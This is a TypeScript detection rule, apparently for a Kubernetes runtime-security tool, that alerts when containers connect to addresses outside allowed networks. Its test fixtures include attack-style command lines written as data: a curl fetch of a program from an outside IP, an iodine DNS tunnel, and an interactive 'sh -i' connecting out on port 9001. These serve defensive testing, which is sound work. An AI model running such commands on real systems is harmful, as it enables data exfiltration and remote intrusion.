import { defineDetection, integers, isOneOf, strings, type SyscallEvent, syscalls } from "portcullis";
import { inContainer, isEmpty, outbound, place, serverIn } from "./events.ts";
import { by, connects, connectsTo, node, proxy, socket, unknown, web, worker } from "./fixtures.ts";

export default defineDetection({
  title: "A container talked to an address outside the allowed networks",
  description: "Stolen data has to leave, and an intruder's tools have to be reached: both show as a connection to an address that the workload never needed.",
  severity: "medium",
  frameworks: { nsa: { "1.2": ["log/alerts"] }, owasp: { "2022": ["K05", "K07"], "2025": ["K10", "K05"] }, seed: ["H07", "H23", "H33"] },
  techniques: ["T1071", "T1041", "T1048"],
  source: syscalls(),
  parameters: {
    // The catalogue lists IPv4 alone; without their counterparts each connection inside an IPv6 cluster is reported.
    allowedNets: strings({ default: ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "::1/128", "fc00::/7", "fe80::/10"], description: "Networks that containers may talk to, as CIDR blocks of either family." }),
    allowedPorts: integers({ default: [], description: "Ports that containers may talk to anywhere." }),
    namespaces: strings({ default: [], description: "Namespaces that are watched; all where it is empty. A container whose namespace is not known yet is watched too." }),
  },
  when: ({ event, parameters }) =>
    outbound(event) && inContainer(event) && hasServer(event) && !serverIn(event, parameters.allowedNets) && !isOneOf(event["fd.sport"], parameters.allowedPorts)
    && (isEmpty(parameters.namespaces) || event["k8s.ns.name"] === undefined || isOneOf(event["k8s.ns.name"], parameters.namespaces)),
  fields: ["fd.name", "fd.sip", "fd.sport", "fd.l4proto", "proc.cmdline", ...place],
  response: "Find out whose address it is and what was sent. Cut the pod off with a network policy before you end it, so that its memory can still be looked at.",
  fires: [
    { name: "a tool fetches a program", event: { ...web, ...by("curl", "curl -s https://203.0.113.66/x"), ...connects("203.0.113.66", 443) } },
    { name: "a query to a foreign name server, without a connection", event: { ...worker, ...by("iodine", "iodine t.example.net"), "evt.type": "sendto", "evt.res": "SUCCESS", "evt.rawres": 84, ...socket("198.51.100.9", 53, "udp"), "fd.connected": false, "fd.name_changed": true } },
    { name: "an address of IPv6", event: { ...worker, ...by("python3", "python3 -c ..."), ...connects("2001:db8:90::7", 8443) } },
    { name: "a watched namespace whose name is not known yet", event: { ...unknown, ...by("sh", "sh -i"), ...connects("203.0.113.66", 9001) }, parameters: { namespaces: ["shop"] } },
  ],
  quiet: [
    { name: "a mesh's proxy talks to a pod", event: { ...proxy, ...by("envoy", "envoy -c /etc/istio/proxy/envoy-rev.json", "pilot-agent"), ...connects("10.244.5.8", 8080) } },
    { name: "a name is looked up in the cluster", event: { ...web, ...by("node", "node server.js"), ...connects("10.96.0.10", 53, "udp") } },
    { name: "the C library chooses among addresses", event: { ...web, ...by("curl", "curl https://pay.example.com"), ...connects("203.0.113.20", 0, "udp") } },
    { name: "a pod talks to another over IPv6", event: { ...web, ...by("nginx", "nginx: worker process"), ...connects("fd00:10:244::2a", 8080) } },
    { name: "a connection that was refused", event: { ...web, ...by("curl", "curl http://203.0.113.66"), ...connects("203.0.113.66", 80), "evt.res": "ECONNREFUSED", "evt.rawres": -111 } },
    { name: "a sidecar asks its agent over a file", event: { ...proxy, ...by("envoy", "envoy"), ...connectsTo("/etc/istio/proxy/XDS") } },
    { name: "a part of a TCP stream is sent", event: { ...web, ...by("node", "node server.js"), "evt.type": "sendto", "evt.res": "SUCCESS", "evt.rawres": 512, ...socket("203.0.113.20", 443), "fd.connected": true, "fd.name_changed": false } },
    { name: "the kubelet pulls from a registry", event: { ...node, ...by("containerd", "containerd", "systemd"), ...connects("203.0.113.80", 443) } },
    { name: "a namespace that is not watched", event: { ...web, ...by("curl", "curl https://203.0.113.66"), ...connects("203.0.113.66", 443) }, parameters: { namespaces: ["payments"] } },
    { name: "a port that is allowed", event: { ...web, ...by("chronyd", "chronyd -d"), ...connects("203.0.113.123", 123, "udp") }, parameters: { allowedPorts: [123] } },
  ],
});

/** Whether the address of the server is known. Without one, nothing can be said of it. */
const hasServer = (event: SyscallEvent): boolean => event["fd.sip"] !== undefined;
